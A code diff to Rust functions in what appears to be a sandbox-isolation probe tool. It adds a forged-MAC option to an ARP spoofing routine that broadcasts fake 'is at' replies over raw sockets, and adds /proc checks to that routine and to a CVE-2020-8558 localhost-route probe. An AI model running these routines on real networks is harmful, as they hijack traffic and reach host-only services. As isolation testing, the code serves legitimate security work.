@@ -32,6 +32,9 @@ pub fn reach_host_loopback(port: u16) -> String {
 /// socket (`AF_PACKET`, `CAP_NET_RAW`) on an interface of that network: the
 /// one the route to `ip` leaves by. Whether anyone believed it, only they know.
 pub fn arp_spoof(ip: Ipv4Addr) -> String {
+    if let Err(e) = super::ensure_proc() {
+        return format!("BLOCKED: cannot mount /proc: {e}");
+    }
     let Some((interface, _)) = route_to(ip) else {
         return format!("BLOCKED: no route to {ip} in /proc/net/route");
     };
@@ -39,13 +42,17 @@ pub fn arp_spoof(ip: Ipv4Addr) -> String {
         Ok(link) => link,
         Err(e) => return format!("BLOCKED: {e}"),
     };
+    // On the host's own network (no network namespace), our interface may be
+    // the one that has `ip`: then claim it for a MAC address of our making.
+    let claimed =
+        if link.address == Some(ip) { [0x02, 0xde, 0xad, 0xbe, 0xef, 0x01] } else { link.mac };
     let mut frame = Vec::with_capacity(42);
     frame.extend_from_slice(&[0xff; 6]); // to everyone
     frame.extend_from_slice(&link.mac);
     frame.extend_from_slice(&ETH_P_ARP.to_be_bytes());
     // Ethernet, IPv4, 6-byte MACs, 4-byte addresses, a reply ("is at").
     frame.extend_from_slice(&[0, 1, 8, 0, 6, 4, 0, 2]);
-    frame.extend_from_slice(&link.mac);
+    frame.extend_from_slice(&claimed);
     frame.extend_from_slice(&ip.octets());
     frame.extend_from_slice(&[0xff; 6]);
     frame.extend_from_slice(&ip.octets());
@@ -55,7 +62,7 @@ pub fn arp_spoof(ip: Ipv4Addr) -> String {
         }
         std::thread::sleep(std::time::Duration::from_millis(100));
     }
-    format!("TRIED: told {interface}'s network that {ip} is at {}", mac_text(&link.mac))
+    format!("TRIED: told {interface}'s network that {ip} is at {}", mac_text(&claimed))
 }
 
 /// CVE-2020-8558: a host that allows packets to 127.0.0.1 from an interface
@@ -66,6 +73,9 @@ pub fn arp_spoof(ip: Ipv4Addr) -> String {
 /// 127.0.0.1:`port` carrying `marker`. Without a gateway we are on the host's
 /// own network stack, and 127.0.0.1 is simply the host's.
 pub fn route_localnet(port: u16, marker: &str) -> String {
+    if let Err(e) = super::ensure_proc() {
+        return format!("BLOCKED: cannot mount /proc: {e}");
+    }
     let Some((interface, gateway)) = default_route() else {
         let socket = match std::net::UdpSocket::bind("127.0.0.1:0") {
             Ok(socket) => socket,
